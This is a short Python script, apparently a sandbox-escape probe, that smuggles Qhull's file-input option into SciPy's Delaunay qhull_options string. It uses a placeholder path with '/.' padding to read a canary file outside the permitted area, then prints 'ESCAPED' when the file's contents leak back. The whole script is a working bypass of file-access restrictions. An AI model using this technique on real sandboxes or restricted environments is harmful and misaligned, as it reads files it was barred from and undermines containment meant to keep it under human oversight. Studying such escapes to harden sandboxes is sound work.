"""Qhull's option that opens a file is one letter of a word of options."""
import numpy as np
from scipy.spatial import Delaunay

points = np.random.default_rng(0).random((10, 2))


class Input:
    def fileno(self):
        return 0

    def tell(self):
        return 0

    def seek(self, *place):
        return 0

    def flush(self):
        pass


text = b""
for number in range(60):
    try:
        Delaunay(points, qhull_options="TsI @OUTSIDE@" + "/." * number + "/canary.txt Qw")
        text = np.fromfile(Input(), dtype="u1", count=200).tobytes()
    except Exception:
        continue
    if b"canary" in text:
        print("ESCAPED:qhull_in_one_word", text)
        break
